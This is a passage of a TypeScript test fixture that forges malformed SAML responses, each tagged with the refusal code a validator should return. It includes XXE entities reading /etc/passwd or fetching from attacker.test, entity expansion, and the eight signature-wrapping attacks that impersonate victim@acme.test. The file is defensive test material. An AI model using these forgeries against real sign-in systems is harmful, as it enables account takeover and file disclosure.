/** Forged and broken responses, each with the code it is refused under. The victim is `victim@acme.test`; who forges
 *  holds a genuine assertion about `zoe@acme.test`. */
import type { ResponseRefusal } from '../refusals'
import * as forger from './forger'
import { assertionXml, encrypt, enveloped, exclusive, moment, posted, responseXml, rightParts, sign } from './forger'

export interface World {
  readonly idp: forger.KeyPair
  readonly stranger: forger.KeyPair
  /** Ours, for encrypted assertions. */
  readonly own: forger.KeyPair
  readonly setting: forger.Setting
}

export interface Forgery {
  readonly name: string
  readonly code: ResponseRefusal
  /** The form field. */
  make(world: World): string
  /** Also judged where sign-ins may begin at the provider: no request is known. */
  readonly unsolicited?: 'accepted' | 'refused'
}

/** Where our addresses say which organization is meant. */
const own = /\/saml\/[^/]+\//
const victim = 'victim@acme.test'
const samlNs = 'xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion"'
const dsNs = 'xmlns:ds="http://www.w3.org/2000/09/xmldsig#"'

/** Parts changed before signing: an identity provider that is wrong, or another one's. */
function provider(name: string, code: ResponseRefusal, change: (world: World) => Partial<forger.Parts>): Forgery {
  return { name, code, make: (world) => forger.rightResponse(world.setting, world.idp, change(world)) }
}

/** A genuine signed response changed afterwards. */
function tampered(name: string, code: ResponseRefusal, change: (xml: string, world: World) => string): Forgery {
  return { name, code, make: (world) => posted(change(genuine(world), world)) }
}

function genuine({ setting, idp }: World): string {
  const parts = rightParts(setting)
  return sign(responseXml(parts), parts.assertionId, idp.privateKey)
}

function genuineBoth({ setting, idp }: World): string {
  const parts = rightParts(setting)
  return sign(sign(responseXml(parts), parts.assertionId, idp.privateKey), parts.responseId, idp.privateKey)
}

/** Signed with other options than the right ones. */
function signedWith(name: string, code: ResponseRefusal, options: forger.SignOptions): Forgery {
  const make = ({ setting, idp }: World) => {
    const parts = rightParts(setting)
    return posted(sign(responseXml(parts), parts.assertionId, idp.privateKey, options))
  }
  return { name, code, make }
}

/** Sealed for us, whatever is inside. */
function sealed(
  name: string,
  code: ResponseRefusal,
  inside: (signed: string, world: World) => string,
  options: forger.EncryptOptions & { for?: 'stranger' } = {},
): Forgery {
  const make = (world: World) => {
    const parts = rightParts(world.setting)
    const signed = sign(assertionXml(parts), parts.assertionId, world.idp.privateKey)
    const { certificate } = options.for ? world.stranger : world.own
    return posted(responseXml(parts, encrypt(inside(signed, world), certificate, options)))
  }
  return { name, code, make }
}

const doctype = (inside: string) => (xml: string) => `<!DOCTYPE r [${inside}]>${xml}`

const documents: Forgery[] = [
  { name: 'nothing at all', code: 'not_base64', make: () => '' },
  { name: 'something that is no base64', code: 'not_base64', make: () => 'PHNhbWw*' },
  { name: 'base64 of a cut length', code: 'not_base64', make: () => 'PHNhbWw' },
  { name: 'bytes that are no XML', code: 'not_xml', make: () => posted('not a document') },
  { name: 'bytes that are no UTF-8', code: 'not_xml', make: () => posted(Uint8Array.of(0x3c, 0xff, 0xfe, 0x3e)) },
  { name: 'more than is read', code: 'too_large', make: () => posted(`<a>${'x'.repeat(300_000)}</a>`) },
  { name: 'a hundred thousand elements', code: 'too_large', make: () => posted(`<a>${'<b/>'.repeat(50_000)}</a>`) },
  { name: 'elements in elements', code: 'too_large', make: () => posted('<a>'.repeat(90) + '</a>'.repeat(90)) },
  tampered('a DOCTYPE', 'doctype', (xml) => `<!DOCTYPE samlp:Response>${xml}`),
  tampered('a DOCTYPE in small letters', 'doctype', (xml) => `<!doctype r>${xml}`),
  tampered('an entity for the name', 'doctype', (xml) =>
    doctype(`<!ENTITY v "${victim}">`)(xml.replace('zoe@', '&v;')),
  ),
  tampered('an external entity', 'doctype', doctype('<!ENTITY x SYSTEM "file:///etc/passwd">')),
  tampered('a parameter entity', 'doctype', doctype('<!ENTITY % x SYSTEM "http://attacker.test/x"> %x;')),
  tampered('entities that grow', 'doctype', doctype('<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">')),
  tampered('a default attribute by DTD', 'doctype', doctype('<!ATTLIST saml:Assertion ID CDATA "x">')),
  tampered('an entity that nobody declared', 'not_xml', (xml) => xml.replace('zoe@acme.test', '&v;')),
  tampered('a comment inside the name', 'not_plain', (xml) => xml.replace('zoe@acme', 'zoe@<!---->acme')),
  tampered('a comment before the domain', 'not_plain', (xml) =>
    xml.replace('@acme.test<', '@acme.test<!-- x -->.evil<'),
  ),
  tampered('a comment in the digest', 'not_plain', (xml) => xml.replace('<DigestValue>', '<DigestValue><!-- AAAA -->')),
  tampered('a comment in an attribute value', 'not_plain', (xml) =>
    xml.replace('<saml:AttributeValue>', '<saml:AttributeValue><!-- -->'),
  ),
  tampered('CDATA inside the name', 'not_plain', (xml) => xml.replace('zoe@acme.test', '<![CDATA[zoe@]]>acme.test')),
  tampered('CDATA in an attribute value', 'not_plain', (xml) => xml.replace('Zoé Martin', '<![CDATA[Zoé]]> Martin')),
  tampered('a processing instruction inside the name', 'not_plain', (xml) =>
    xml.replace('zoe@acme', 'zoe@<?x y?>acme'),
  ),
  tampered('a processing instruction before the root', 'not_plain', (xml) => `<?xml-stylesheet href="x"?>${xml}`),
  tampered('a second XML declaration', 'not_plain', (xml) => `<?xml version="1.0"?><?xml version="1.0"?>${xml}`),
  tampered('an encoding that is not UTF-8', 'not_xml', (xml) => `<?xml version="1.0" encoding="UTF-7"?>${xml}`),
  tampered('a control character', 'not_xml', (xml) => xml.replace('zoe@', 'zoe\u0001@')),
  tampered('a NUL by reference', 'signature_wrong', (xml) => xml.replace('zoe@', 'zoe&#0;@')),
  tampered('a tag that is not closed', 'not_xml', (xml) => xml.replace('</saml:NameID>', '')),
  tampered('an attribute twice', 'not_xml', (xml) => xml.replace('Version="2.0"', 'Version="2.0" Version="2.0"')),
  tampered('an evil root before', 'not_xml', (xml, w) => `${evilResponse(w)}${xml}`),
  tampered('an evil root behind', 'not_xml', (xml, w) => `${xml}${evilResponse(w)}`),
  tampered('text behind the root', 'not_xml', (xml) => `${xml}x`),
  tampered('an ID twice', 'id_twice', (xml, w) => inResponse(xml, evilAssertion(w, idOf(xml)))),
  tampered('an ID again under another name', 'id_twice', (xml) =>
    xml.replace('<samlp:Status>', `<samlp:Status Id="${idOf(xml)}">`),
  ),
  tampered('an ID again in a namespace', 'id_twice', (xml) =>
    xml.replace('<samlp:Status>', `<samlp:Status samlp:ID="${idOf(xml)}">`),
  ),
  tampered('a relative namespace', 'namespace_relative', (xml) =>
    xml.replace('<samlp:Status>', '<samlp:Status xmlns:x="1">'),
  ),
]

function idOf(xml: string): string {
  return /Assertion [^>]*ID="([^"]+)"/.exec(xml)?.[1] ?? ''
}

function evilParts(world: World): forger.Parts {
  return rightParts({ ...world.setting, nameId: victim, attributes: { email: [victim] } })
}

function evilAssertion(world: World, assertionId?: string): string {
  const parts = evilParts(world)
  return assertionXml(assertionId ? { ...parts, assertionId } : parts)
}

function evilResponse(world: World): string {
  return responseXml(evilParts(world))
}

/** Puts something at the end of the response. */
function inResponse(xml: string, more: string): string {
  return xml.replace('</samlp:Response>', `${more}</samlp:Response>`)
}

const answers: Forgery[] = [
  tampered('a LogoutResponse', 'not_a_response', (xml) => xml.replaceAll('samlp:Response', 'samlp:LogoutResponse')),
  {
    name: 'an assertion without a response',
    code: 'not_a_response',
    make: ({ setting, idp }) => {
      const parts = rightParts(setting)
      return posted(sign(assertionXml(parts), parts.assertionId, idp.privateKey))
    },
  },
  tampered('a response of SAML 1.1', 'not_a_response', (xml) => xml.replace('SAML:2.0:protocol', 'SAML:1.0:protocol')),
  tampered('a response without a namespace', 'not_a_response', (xml) => xml.replaceAll('samlp:Response', 'Response')),
  tampered('a response of version 1.1', 'version_wrong', (xml) => xml.replace('Version="2.0"', 'Version="1.1"')),
  tampered('a response without a version', 'version_wrong', (xml) => xml.replace('Version="2.0" ', '')),
  provider('an assertion of version 1.1', 'version_wrong', ({ setting }) => ({
    assertionAttributes: `Version="1.1" IssueInstant="${moment(setting.now)}"`,
  })),
  status(
    'a status of failure, with an assertion',
    '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"/>',
  ),
  status(
    'a refusal by the provider',
    '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Requester"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:AuthnFailed"/></samlp:StatusCode><samlp:StatusMessage>no</samlp:StatusMessage>',
  ),
  status(
    'success only in the second place',
    '<samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Responder"><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/></samlp:StatusCode>',
  ),
  status('a status without a code', ''),
  provider('no status', 'idp_refused', () => ({ status: '' })),
  provider('two statuses', 'idp_refused', () => ({ status: forger.success + forger.success })),
  tampered('no assertion', 'assertion_missing', (xml) => xml.replace(/<saml:Assertion[\s\S]*<\/saml:Assertion>/, '')),
  provider('no issuer of the response', 'response_issuer_missing', () => ({ responseIssuer: '' })),
  provider('an empty issuer of the response', 'response_issuer_missing', () => ({ responseIssuer: '<saml:Issuer/>' })),
  provider('two issuers of the response', 'response_issuer_missing', ({ setting }) => ({
    responseIssuer: `<saml:Issuer>${setting.issuer}</saml:Issuer><saml:Issuer>https://evil.test</saml:Issuer>`,
  })),
  provider('another issuer of the response', 'response_issuer_wrong', () => ({
    responseIssuer: '<saml:Issuer>https://evil.test</saml:Issuer>',
  })),
  provider('no issuer of the assertion', 'assertion_issuer_missing', () => ({ assertionIssuer: '' })),
  provider('another issuer of the assertion', 'assertion_issuer_wrong', () => ({
    assertionIssuer: '<saml:Issuer>https://evil.test</saml:Issuer>',
  })),
  provider('an issuer in other letters', 'assertion_issuer_wrong', ({ setting }) => ({
    assertionIssuer: `<saml:Issuer>${setting.issuer.toUpperCase()}</saml:Issuer>`,
  })),
  envelope(
    'no destination',
    'destination_missing',
    ({ now, requestId }) => `IssueInstant="${moment(now)}" InResponseTo="${requestId}"`,
  ),
  envelope('an empty destination', 'destination_missing', (s) => responseAttributes(s, { destination: '' })),
  envelope('another destination', 'destination_wrong', (s) =>
    responseAttributes(s, { destination: 'https://evil.test/acs' }),
  ),
  envelope("another organization's destination", 'destination_wrong', (s) =>
    responseAttributes(s, { destination: s.acsUrl.replace(own, '/saml/globex/') }),
  ),
  envelope('a destination with a slash more', 'destination_wrong', (s) =>
    responseAttributes(s, { destination: `${s.acsUrl}/` }),
  ),
  envelope('a destination with a query', 'destination_wrong', (s) =>
    responseAttributes(s, { destination: `${s.acsUrl}?x=1` }),
  ),
  envelope('no InResponseTo', 'request_wrong', (s) => `IssueInstant="${moment(s.now)}" Destination="${s.acsUrl}"`),
  envelope('another InResponseTo', 'request_wrong', (s) => responseAttributes(s, { request: '_other' })),
]

function status(name: string, inside: string): Forgery {
  return provider(name, 'idp_refused', () => ({ status: `<samlp:Status>${inside}</samlp:Status>` }))
}

function responseAttributes(setting: forger.Setting, { destination = setting.acsUrl, request = setting.requestId }) {
  return `IssueInstant="${moment(setting.now)}" Destination="${destination}" InResponseTo="${request}"`
}

function envelope(name: string, code: ResponseRefusal, write: (setting: forger.Setting) => string): Forgery {
  return provider(name, code, ({ setting }) => ({ responseAttributes: `Version="2.0" ${write(setting)}` }))
}

const signatures: Forgery[] = [
  {
    name: 'nothing signed',
    code: 'signature_missing',
    make: ({ setting }) => posted(responseXml(rightParts(setting))),
  },
  {
    name: 'the response signed and the assertion not',
    code: 'signature_missing',
    make: ({ setting, idp }) => {
      const parts = rightParts(setting)
      return posted(sign(responseXml(parts), parts.responseId, idp.privateKey))
    },
  },
  {
    name: "a stranger's signature",
    code: 'signature_wrong',
    make: ({ setting, stranger }) => forger.rightResponse(setting, stranger),
  },
  {
    name: "a stranger's signature with the stranger's certificate in it",
    code: 'signature_wrong',
    make: ({ setting, stranger }) => {
      const parts = rightParts({ ...setting, nameId: victim })
      const options = { showsCertificate: stranger.certificate }
      return posted(sign(responseXml(parts), parts.assertionId, stranger.privateKey, options))
    },
  },
  {
    name: "a stranger's signature with the provider's certificate in it",
    code: 'signature_wrong',
    make: ({ setting, stranger, idp }) => {
      const parts = rightParts(setting)
      const options = { showsCertificate: idp.certificate }
      return posted(sign(responseXml(parts), parts.assertionId, stranger.privateKey, options))
    },
  },
  tampered('another name', 'signature_wrong', (xml) =>
    xml.replace('>zoe@acme.test</saml:NameID>', `>${victim}</saml:NameID>`),
  ),
  tampered('a letter less in the name', 'signature_wrong', (xml) =>
    xml.replace('>zoe@acme.test</saml:N', '>zo@acme.test</saml:N'),
  ),
  tampered('a blank more in the name', 'signature_wrong', (xml) =>
    xml.replace('zoe@acme.test</saml:N', 'zoe@acme.test </saml:N'),
  ),
  tampered('another address in the attributes', 'signature_wrong', (xml) =>
    xml.replace('>zoe@acme.test</saml:A', `>${victim}</saml:A`),
  ),
  tampered('an attribute more', 'signature_wrong', (xml) =>
    xml.replace('</saml:AttributeStatement>', '<saml:Attribute Name="x"/></saml:AttributeStatement>'),
  ),
  tampered('an audience changed', 'signature_wrong', (xml) => xml.replace('<saml:Audience>', '<saml:Audience>x')),
  tampered('a longer life', 'signature_wrong', (xml, { setting }) =>
    xml.replace(`NotOnOrAfter="${moment(setting.now, 300)}"`, `NotOnOrAfter="${moment(setting.now, 3e6)}"`),
  ),
  tampered('another ID', 'signature_reference', (xml) => xml.replace(`ID="${idOf(xml)}"`, 'ID="_other"')),
  tampered('an ID that is none', 'signature_reference', (xml) => xml.replace(`ID="${idOf(xml)}"`, `ID="1' or '1"`)),
  tampered('no ID', 'signature_reference', (xml) => xml.replace(` ID="${idOf(xml)}"`, '')),
  tampered('another digest', 'signature_wrong', (xml) => xml.replace(/<DigestValue>./, '<DigestValue>0')),
  tampered('an empty digest', 'signature_wrong', (xml) => xml.replace(/<DigestValue>[^<]+/, '<DigestValue>')),
  tampered('an element in the digest', 'signature_shape', (xml) => xml.replace('<DigestValue>', '<DigestValue><x/>')),
  tampered('another signature value', 'signature_wrong', (xml) =>
    xml.replace(/<SignatureValue>.{8}/, '<SignatureValue>AAAAAAAA'),
  ),
  tampered('an empty signature value', 'signature_wrong', (xml) =>
    xml.replace(/<SignatureValue>[^<]+/, '<SignatureValue>'),
  ),
  tampered('no signature value', 'signature_shape', (xml) =>
    xml.replace(/<SignatureValue>[^<]+<\/SignatureValue>/, ''),
  ),
  tampered('no SignedInfo', 'signature_shape', (xml) => xml.replace(/<SignedInfo>[\s\S]*<\/SignedInfo>/, '')),
  tampered('two SignedInfo', 'signature_shape', (xml) => xml.replace(/(<SignedInfo>[\s\S]*<\/SignedInfo>)/, '$1$1')),
  tampered('two references', 'signature_shape', (xml) => xml.replace(/(<Reference [\s\S]*<\/Reference>)/, '$1$1')),
  tampered('no reference', 'signature_shape', (xml) => xml.replace(/<Reference [\s\S]*<\/Reference>/, '')),
  tampered('an Object in the signature', 'signature_shape', (xml) =>
    xml.replace('</Signature>', '<Object/></Signature>'),
  ),
  tampered('a reference to the whole document', 'signature_reference', (xml) => xml.replace(/URI="#[^"]+"/, 'URI=""')),
  tampered('a reference without a mark', 'signature_reference', (xml) => xml.replace(/URI="#([^"]+)"/, 'URI="$1"')),
  tampered('a reference by XPointer', 'signature_reference', (xml) =>
    xml.replace(/URI="#([^"]+)"/, `URI="#xpointer(id('$1'))"`),
  ),
  tampered('a reference to the response', 'signature_reference', (xml) =>
    xml.replace(/URI="#[^"]+"/, `URI="#${/ID="(_r[^"]+)"/.exec(xml)?.[1]}"`),
  ),
  tampered('a reference to another host', 'signature_reference', (xml) =>
    xml.replace(/URI="#[^"]+"/, 'URI="http://attacker.test/"'),
  ),
  tampered('a signature twice', 'signature_twice', (xml) => xml.replace(/(<Signature [\s\S]*<\/Signature>)/, '$1$1')),
  tampered('a shared secret for a key', 'signature_sha1', (xml, { idp }) =>
    forger.resignWithHmac(xml, idp.certificate),
  ),
  tampered('a method that nobody knows', 'signature_algorithm', (xml) =>
    xml.replace('xmldsig-more#rsa-sha256', 'xmldsig-more#none'),
  ),
  tampered('a method of MD5', 'signature_algorithm', (xml) =>
    xml.replace('xmldsig-more#rsa-sha256', 'xmldsig-more#rsa-md5'),
  ),
  tampered('a digest of MD5', 'signature_algorithm', (xml) => xml.replace('xmlenc#sha256', 'xmldsig-more#md5')),
  signedWith('SHA-1 in the signature', 'signature_sha1', {
    signatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1',
  }),
  signedWith('SHA-1 in the digest', 'signature_sha1', { digestAlgorithm: 'http://www.w3.org/2000/09/xmldsig#sha1' }),
  signedWith('canonicalization with comments', 'signature_transform', { canonicalization: `${exclusive}WithComments` }),
  signedWith('inclusive canonicalization', 'signature_transform', {
    canonicalization: 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315',
  }),
  signedWith('a transform with comments', 'signature_transform', {
    transforms: [enveloped, `${exclusive}WithComments`],
  }),
  signedWith('no exclusive transform', 'signature_transform', { transforms: [enveloped] }),
  signedWith('no enveloped transform', 'signature_transform', { transforms: [exclusive] }),
  tampered('a transform by XSLT', 'signature_transform', (xml) =>
    xml.replace('</Transforms>', '<Transform Algorithm="http://www.w3.org/TR/1999/REC-xslt-19991116"/></Transforms>'),
  ),
  tampered('a transform by XPath', 'signature_transform', (xml) =>
    xml.replace(enveloped, 'http://www.w3.org/TR/1999/REC-xpath-19991116'),
  ),
  tampered('no transforms', 'signature_shape', (xml) => xml.replace(/<Transforms>[\s\S]*<\/Transforms>/, '')),
  tampered('a signature in the extensions as well', 'signature_stray', (xml) =>
    xml.replace('<samlp:Status>', `<samlp:Extensions>${signatureOf(xml)}</samlp:Extensions><samlp:Status>`),
  ),
  tampered('the signature in the subject', 'signature_stray', (xml) =>
    xml.replace(signatureOf(xml), '').replace('</saml:NameID>', `</saml:NameID>${signatureOf(xml)}`),
  ),
  tampered('a signature in another namespace', 'signature_stray', (xml) =>
    xml.replace('</saml:Subject>', '</saml:Subject><Signature xmlns="urn:x"/>'),
  ),
  {
    name: "a stranger's signature of the response",
    code: 'response_signature_wrong',
    make: ({ setting, idp, stranger }) => {
      const parts = rightParts(setting)
      const signed = sign(responseXml(parts), parts.assertionId, idp.privateKey)
      return posted(sign(signed, parts.responseId, stranger.privateKey))
    },
  },
  {
    name: 'a signed response changed outside of the assertion',
    code: 'response_signature_wrong',
    make: (world) => posted(genuineBoth(world).replace('InResponseTo="', 'InResponseTo="x')),
  },
  {
    name: 'a response signed with SHA-1',
    code: 'signature_sha1',
    make: ({ setting, idp }) => {
      const parts = rightParts(setting)
      const signed = sign(responseXml(parts), parts.assertionId, idp.privateKey)
      const options = { signatureAlgorithm: 'http://www.w3.org/2000/09/xmldsig#rsa-sha1' }
      return posted(sign(signed, parts.responseId, idp.privateKey, options))
    },
  },
]

function signatureOf(xml: string): string {
  return /<Signature [\s\S]*?<\/Signature>/.exec(xml)?.[0] ?? ''
}

function assertionOf(xml: string): string {
  return /<saml:Assertion[\s\S]*<\/saml:Assertion>/.exec(xml)?.[0] ?? ''
}

/** The eight wrappings of "On Breaking SAML" (2012), and relatives: the genuine signed element is kept somewhere, and
 *  an evil one stands where it is read. */
const wrappings: Forgery[] = [
  {
    name: 'wrapping 1: the signed response inside the signature of an evil one',
    code: 'signature_shape',
    make: (world) => {
      const xml = genuineBoth(world)
      const signature = lastSignature(xml).replace(
        '</Signature>',
        `<Object>${xml.replace(lastSignature(xml), '')}</Object></Signature>`,
      )
      return posted(evilResponse(world).replace('<samlp:Status>', `${signature}<samlp:Status>`))
    },
  },
  {
    name: 'wrapping 2: the signed response beside the signature of an evil one',
    code: 'signature_reference',
    make: (world) => {
      const xml = genuineBoth(world)
      const inside = `${lastSignature(xml)}<samlp:Extensions>${xml.replace(lastSignature(xml), '')}</samlp:Extensions>`
      return posted(evilResponse(world).replace('<samlp:Status>', `${inside}<samlp:Status>`))
    },
  },
  tampered('wrapping 3: an evil assertion before the signed one', 'assertion_twice', (xml, w) =>
    xml.replace('<saml:Assertion', `${evilAssertion(w)}<saml:Assertion`),
  ),
  tampered('an evil assertion behind the signed one', 'assertion_twice', (xml, w) => inResponse(xml, evilAssertion(w))),
  tampered('wrapping 4: the signed assertion inside an evil one', 'assertion_twice', (xml, w) =>
    xml.replace(
      assertionOf(xml),
      evilAssertion(w).replace('</saml:Assertion>', `${assertionOf(xml)}</saml:Assertion>`),
    ),
  ),
  tampered('wrapping 5: an evil assertion with the signature, the signed one behind', 'assertion_twice', (xml, w) => {
    const signature = signatureOf(xml)
    const evil = evilAssertion(w).replace('<saml:Subject>', `${signature}<saml:Subject>`)
    return xml.replace(assertionOf(xml), `${evil}${assertionOf(xml).replace(signature, '')}`)
  }),
  tampered('wrapping 6: the signed assertion inside the signature', 'assertion_twice', (xml, w) => {
    const signature = signatureOf(xml)
    const wrapped = signature.replace(
      '</Signature>',
      `<Object>${assertionOf(xml).replace(signature, '')}</Object></Signature>`,
    )
    return xml.replace(assertionOf(xml), evilAssertion(w).replace('<saml:Subject>', `${wrapped}<saml:Subject>`))
  }),
  tampered('wrapping 7: an evil assertion in the extensions', 'assertion_twice', (xml, w) =>
    xml.replace('<samlp:Status>', `<samlp:Extensions>${evilAssertion(w)}</samlp:Extensions><samlp:Status>`),
  ),
  tampered('wrapping 8: the signed assertion in an Object', 'assertion_twice', (xml, w) => {
    const signature = signatureOf(xml)
    const wrapped = signature.replace('</Signature>', `<Object>${assertionOf(xml)}</Object></Signature>`)
    return xml.replace(assertionOf(xml), evilAssertion(w).replace('<saml:Subject>', `${wrapped}<saml:Subject>`))
  }),
  tampered('the signed assertion in the status detail', 'assertion_twice', (xml, w) =>
    xml
      .replace(assertionOf(xml), evilAssertion(w))
      .replace('</samlp:Status>', `<samlp:StatusDetail>${assertionOf(xml)}</samlp:StatusDetail></samlp:Status>`),
  ),
  tampered("the signature's digest in the status detail", 'signature_stray', (xml, w) =>
    xml
      .replace(assertionOf(xml), evilAssertion(w).replace('<saml:Subject>', `${signatureOf(xml)}<saml:Subject>`))
      .replace('</samlp:Status>', `<samlp:StatusDetail>${signatureOf(xml)}</samlp:StatusDetail></samlp:Status>`),
  ),
  tampered('the signature on an evil assertion', 'signature_reference', (xml, w) =>
    xml.replace(assertionOf(xml), evilAssertion(w).replace('<saml:Subject>', `${signatureOf(xml)}<saml:Subject>`)),
  ),
  tampered('the signature and the ID on an evil assertion', 'signature_wrong', (xml, w) =>
    xml.replace(
      assertionOf(xml),
      evilAssertion(w, idOf(xml)).replace('<saml:Subject>', `${signatureOf(xml)}<saml:Subject>`),
    ),
  ),
  tampered('an evil assertion in another namespace', 'assertion_twice', (xml) =>
    inResponse(xml, '<x:Assertion xmlns:x="urn:x"/>'),
  ),
  tampered('an evil assertion as advice', 'assertion_twice', (xml, w) =>
    xml.replace('<saml:AuthnStatement', `<saml:Advice>${evilAssertion(w)}</saml:Advice><saml:AuthnStatement`),
  ),
  tampered('a response in the response', 'assertion_twice', (xml, w) => inResponse(xml, evilResponse(w))),
  tampered('the assertion nested deeper', 'assertion_missing', (xml) =>
    xml.replace(assertionOf(xml), `<samlp:Extensions>${assertionOf(xml)}</samlp:Extensions>`),
  ),
]

function lastSignature(xml: string): string {
  const found = xml.match(/<Signature [\s\S]*?<\/Signature>/g) ?? []
  // The response's own comes first in the document.
  return found[0] ?? ''
}

const encrypted: Forgery[] = [
  sealed('an encryption for somebody else', 'decryption_failed', (signed) => signed, { for: 'stranger' }),
  sealed('a key wrapped the old way', 'encryption_weak', (signed) => signed, { keyWrap: 'rsa15' }),
  sealed('triple DES', 'encryption_weak', (signed) => signed, { cipher: 'des-ede3-cbc' }),
  sealed('encrypted and not signed', 'signature_missing', (_, { setting }) =>
    assertionXml(rightParts({ ...setting, nameId: victim })),
  ),
  sealed("encrypted and a stranger's", 'signature_wrong', (_, { setting, stranger }) => {
    const parts = rightParts({ ...setting, nameId: victim })
    return sign(assertionXml(parts), parts.assertionId, stranger.privateKey)
  }),
  sealed('encrypted and changed', 'signature_wrong', (signed) => signed.replaceAll('zoe@', 'victim@')),
  sealed('encrypted text that is no assertion', 'decryption_failed', () => '<x/>'),
  sealed('encrypted text that is no XML', 'decryption_failed', () => 'hello'),
  sealed('an encrypted DOCTYPE', 'decryption_failed', (signed) => `<!DOCTYPE x>${signed}`),
  sealed('an encrypted comment', 'decryption_failed', (signed) => signed.replace('zoe@', 'zoe@<!---->')),
  sealed('an assertion in the encrypted one', 'assertion_twice', (signed, w) =>
    signed.replace('</saml:Assertion>', `${evilAssertion(w)}</saml:Assertion>`),
  ),
  tampered('an encrypted one beside the signed one', 'assertion_twice', (xml, w) =>
    inResponse(xml, encrypt(evilAssertion(w), w.own.certificate)),
  ),
  tampered('two encrypted ones', 'assertion_twice', (xml, w) =>
    xml.replace(
      assertionOf(xml),
      encrypt(assertionOf(xml), w.own.certificate) + encrypt(evilAssertion(w), w.own.certificate),
    ),
  ),
  tampered('a cipher text with a bit turned', 'decryption_failed', (xml, w) => {
    const sealedXml = encrypt(assertionOf(xml), w.own.certificate)
    const cut = sealedXml.lastIndexOf('<xenc:CipherValue>') + 60
    const turned = sealedXml[cut] === 'A' ? 'B' : 'A'
    return xml.replace(assertionOf(xml), sealedXml.slice(0, cut) + turned + sealedXml.slice(cut + 1))
  }),
  tampered('an encryption without a key', 'decryption_failed', (xml, w) =>
    xml.replace(
      assertionOf(xml),
      encrypt(assertionOf(xml), w.own.certificate).replace(/<ds:KeyInfo[\s\S]*<\/ds:KeyInfo>/, ''),
    ),
  ),
  tampered('an encryption with two keys', 'decryption_failed', (xml, w) =>
    xml.replace(
      assertionOf(xml),
      encrypt(assertionOf(xml), w.own.certificate).replace(/(<xenc:EncryptedKey>[\s\S]*<\/xenc:EncryptedKey>)/, '$1$1'),
    ),
  ),
  tampered('an encryption without a method', 'encryption_weak', (xml, w) =>
    xml.replace(
      assertionOf(xml),
      encrypt(assertionOf(xml), w.own.certificate).replace(/<xenc:EncryptionMethod Algorithm="[^"]+gcm"\/>/, ''),
    ),
  ),
  tampered('an empty EncryptedAssertion', 'decryption_failed', (xml) =>
    xml.replace(assertionOf(xml), `<saml:EncryptedAssertion ${samlNs}/>`),
  ),
  tampered('a signature beside the encryption', 'signature_stray', (xml, w) =>
    xml.replace(
      assertionOf(xml),
      encrypt(assertionOf(xml), w.own.certificate).replace(
        '</saml:EncryptedAssertion>',
        `<ds:Signature ${dsNs}/></saml:EncryptedAssertion>`,
      ),
    ),
  ),
]

function subjects(
  name: string,
  code: ResponseRefusal,
  write: (right: string, setting: forger.Setting) => string,
): Forgery {
  return provider(name, code, ({ setting }) => ({ subject: write(forger.subject(setting), setting) }))
}

function conditions(name: string, code: ResponseRefusal, write: (right: string, setting: forger.Setting) => string) {
  return provider(name, code, ({ setting }) => ({ conditions: write(forger.conditions(setting), setting) }))
}

function aged(name: string, code: ResponseRefusal, instant: (setting: forger.Setting) => string): Forgery {
  return provider(name, code, ({ setting }) => ({ assertionAttributes: `Version="2.0" ${instant(setting)}` }))
}

const transient = 'urn:oasis:names:tc:SAML:2.0:nameid-format:transient'

const assertions: Forgery[] = [
  provider('no subject', 'subject_missing', () => ({ subject: '' })),
  subjects('two subjects', 'subject_missing', (right) => right + right),
  subjects('no name', 'name_id_missing', (right) => right.replace(/<saml:NameID[^>]*>[^<]*<\/saml:NameID>/, '')),
  subjects('an empty name', 'name_id_missing', (right) => right.replace('zoe@acme.test', ' ')),
  subjects('two names', 'name_id_missing', (right) =>
    right.replace('<saml:NameID', '<saml:NameID>victim</saml:NameID><saml:NameID'),
  ),
  subjects('an element in the name', 'name_id_missing', (right) => right.replace('zoe@', '<x>victim</x>zoe@')),
  subjects('a name without end', 'name_id_missing', (right) => right.replace('zoe@acme.test', 'z'.repeat(1_025))),
  subjects('an encrypted name', 'name_id_missing', (right) => right.replaceAll('saml:NameID', 'saml:EncryptedID')),
  subjects('a name for one time', 'name_id_transient', (right) =>
    right.replace(/Format="[^"]+"/, `Format="${transient}"`),
  ),
  subjects('no confirmation', 'confirmation_missing', (right) =>
    right.replace(/<saml:SubjectConfirmation [\s\S]*<\/saml:SubjectConfirmation>/, ''),
  ),
  subjects('a confirmation without data', 'confirmation_missing', (right) =>
    right.replace(/<saml:SubjectConfirmationData[^>]*\/>/, ''),
  ),
  subjects('a holder of a key', 'confirmation_method', (right) => right.replace('cm:bearer', 'cm:holder-of-key')),
  subjects('a sender who vouches', 'confirmation_method', (right) => right.replace('cm:bearer', 'cm:sender-vouches')),
  subjects('a confirmation without a method', 'confirmation_method', (right) => right.replace(/ Method="[^"]+"/, '')),
  subjects('no recipient', 'recipient_missing', (right) => right.replace(/ Recipient="[^"]+"/, '')),
  subjects('another recipient', 'recipient_wrong', (right) =>
    right.replace(/Recipient="[^"]+"/, 'Recipient="https://evil.test/acs"'),
  ),
  subjects("another organization's recipient", 'recipient_wrong', (right) => right.replace(own, '/saml/globex/')),
  subjects('a recipient with a slash more', 'recipient_wrong', (right, { acsUrl }) =>
    right.replace(acsUrl, `${acsUrl}/`),
  ),
  subjects('a confirmation of no request', 'subject_request_wrong', (right) =>
    right.replace(/ InResponseTo="[^"]+"/, ''),
  ),
  subjects('a confirmation of another request', 'subject_request_wrong', (right) =>
    right.replace(/InResponseTo="[^"]+"/, 'InResponseTo="_other"'),
  ),
  subjects('a confirmation without end', 'subject_time_missing', (right) => right.replace(/NotOnOrAfter="[^"]+" /, '')),
  subjects('a confirmation that has ended', 'subject_expired', (right, { now }) =>
    right.replace(/NotOnOrAfter="[^"]+"/, `NotOnOrAfter="${moment(now, -61)}"`),
  ),
  subjects('a confirmation that has not begun', 'subject_expired', (right, { now }) =>
    right.replace('NotOnOrAfter', `NotBefore="${moment(now, 120)}" NotOnOrAfter`),
  ),
  subjects('a confirmation with a time that is none', 'time_malformed', (right) =>
